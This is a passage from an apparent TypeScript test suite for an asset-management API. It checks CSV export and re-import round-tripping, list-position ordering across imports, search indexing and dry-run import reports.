    const notList = await tmm.post('/api/assets/import/gitlab', {
      kind: 'resources',
      content: 'title: nope',
    });
    expect(notList.status).toBe(422);
    expect(notList.body.error.fields).toHaveProperty('content');
  });

  it('round-trips the CSV export: re-importing it changes nothing', async () => {
    // Assets of its own that fill most columns, whatever else the database holds by now.
    const own = [
      await createTestAsset(t.db, {
        title: 'Round trip: published',
        status: 'published',
        visibility: 'external',
        body: '# Heading\n\nBody text, with a comma.',
        formatId: term('format', 'Webinar'),
        personaIds: [term('persona', 'Platform Engineer')],
        primaryUrl: 'https://example.test/round-trip',
        tags: ['alpha', 'beta'],
        durationMinutes: 30,
        keyTakeaway: 'Takeaway "quoted"',
      }),
      await createTestAsset(t.db, { title: 'Round trip: draft', summary: '' }),
      await createTestAsset(t.db, { title: 'Round trip: archived', status: 'archived' }),
    ];
    const csv = (await tmm.get('/api/assets/export')).body as string;
    const Papa = (await import('papaparse')).default;
    const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
    expect(rows.map((row) => row.id)).toEqual(expect.arrayContaining(own.map((asset) => asset.id)));
    const result = (await tmm.post('/api/assets/import', { rows: rows.slice(0, 1000), dryRun: false })).body;
    expect(result.counts).toMatchObject({ create: 0, update: 0, reject: 0 });
    expect(result.counts.unchanged).toBe(rows.length);
  });

  it('keeps list positions dense and in file order across two imports into the same list', async () => {
    const rowsOf = (from: number, count: number) =>
      Array.from({ length: count }, (_, i) => ({
        external_key: `positions-${from + i}`,
        title: `Positions ${from + i}`,
        summary: 'In order',
        // Every third row also joins a second list, whose positions must stay dense too.
        // Names are one whatever their case, also for a list this very import makes.
        lists: (from + i) % 3 ? 'Positions list' : 'positions LIST; Positions extra',
      }));
    const first = (await tmm.post('/api/assets/import', { rows: rowsOf(1, 7) })).body;
    expect(first.counts).toMatchObject({ create: 7, reject: 0 });
    expect(first.outcomes[0].problems).toEqual(['new list “Positions list”']);
    // The second file updates a row of the first (it stays where it was) and adds six more.
    const second = (
      await tmm.post('/api/assets/import', {
        rows: [
          {
            external_key: 'positions-2',
            title: 'Positions 2, renamed',
            summary: 'In order',
            lists: 'Positions list',
          },
          ...rowsOf(8, 6),
        ],
      })
    ).body;
    expect(second.counts).toMatchObject({ create: 6, update: 1, reject: 0 });
    const places = async (name: string) => {
      const { rows } = await sql<{ title: string; position: number }>`
        SELECT a.title, i.position FROM list_items i JOIN lists l ON l.id = i.list_id
        JOIN assets a ON a.id = i.asset_id WHERE l.name = ${name} ORDER BY i.position`.execute(t.db);
      return rows;
    };
    const main = await places('Positions list');
    expect(main.map((row) => row.position)).toEqual(main.map((_, i) => i));
    expect(main.map((row) => row.title)).toEqual([
      'Positions 1',
      'Positions 2, renamed',
      ...Array.from({ length: 11 }, (_, i) => `Positions ${i + 3}`),
    ]);
    const extra = await places('Positions extra');
    expect(extra.map((row) => row.position)).toEqual([0, 1, 2, 3]);
    expect(extra.map((row) => row.title)).toEqual([
      'Positions 3',
      'Positions 6',
      'Positions 9',
      'Positions 12',
    ]);
    // Every asset written in a batch has its search row, with its words (the renamed one too).
    const { rows: search } = await sql<{ n: number; renamed: number }>`
      SELECT count(*)::int AS n,
        count(*) FILTER (WHERE s.words @@ plainto_tsquery('english', 'renamed'))::int AS renamed
      FROM asset_search s JOIN assets a ON a.id = s.asset_id WHERE a.external_key LIKE 'positions-%'`.execute(
      t.db,
    );
    expect(search[0]).toEqual({ n: 13, renamed: 1 });
  });

  it('reports per row what a dry run would do, and stores nothing', async () => {
    const rows = [
      {
        external_key: 'sheet-1',
        title: 'From a spreadsheet',
        summary: 'New row',
        format: 'Webinar',
        status: 'published',
        lists: 'Imported sheet',
      },
      { title: 'Bad row', format: 'Hologram', personas: 'Wizard', visibility: 'public' },
      { title: '', summary: 'no title' },
    ];
    const dry = (await tmm.post('/api/assets/import', { rows, dryRun: true })).body;
    expect(dry.outcomes.map((o: { action: string }) => o.action)).toEqual(['create', 'reject', 'reject']);
    expect(dry.outcomes[1].problems.join(' ')).toMatch(/unknown format “Hologram”.*unknown persona “Wizard”/);
    expect(dry.outcomes[0].problems).toEqual(['new list “Imported sheet”']);
    expect(
      (await tmm.get('/api/lists')).body.lists.some((l: { name: string }) => l.name === 'Imported sheet'),
    ).toBe(false);
    const real = (await tmm.post('/api/assets/import', { rows: rows.slice(0, 1) })).body;
    expect(real.outcomes[0]).toMatchObject({ action: 'create', problems: ['new list “Imported sheet”'] });
    expect((await tmm.post('/api/assets/import', { rows: rows.slice(0, 1) })).body.counts.unchanged).toBe(1);
  });
});
